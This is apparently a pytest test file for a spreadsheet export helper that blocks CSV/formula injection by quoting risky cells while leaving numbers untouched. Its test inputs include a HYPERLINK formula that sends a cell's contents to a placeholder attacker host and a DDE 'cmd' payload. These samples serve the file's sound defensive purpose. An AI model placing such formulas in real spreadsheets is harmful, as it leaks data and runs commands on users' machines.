"""Every export cell passes through one helper, so text typed by a user can never run
as a spreadsheet formula (OWASP CSV injection), while numbers stay numbers."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from asbcr.exports import csv_writer, safe_cell, xlsx_append

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-5, -0.5, 0, 12, Decimal("-3.25"), None, dt.date(2026, 4, 1), True, "", "Police"]
)
def test_numbers_dates_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) is value


def test_csv_writer_escapes_every_text_cell_and_keeps_numbers():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["Note", HYPERLINK, -5])
    writer.writerows([["@x", 3.5]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["Note", "'" + HYPERLINK, "-5"], ["'@x", "3.5"]]


def test_xlsx_cells_are_written_as_text_never_as_formulas():
    book = Workbook()
    xlsx_append(book.active, [HYPERLINK, -5, "#N/A", "Police", None, 2.5])
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    text, number, error_like, plain = (sheet.cell(row=1, column=c) for c in range(1, 5))
    assert text.value == HYPERLINK and text.data_type == "s" and text.quotePrefix
    assert number.value == -5 and number.data_type == "n"
    assert error_like.data_type == "s"
    assert plain.value == "Police" and not plain.quotePrefix
    assert sheet.cell(row=1, column=6).value == 2.5
    with zipfile.ZipFile(buffer) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
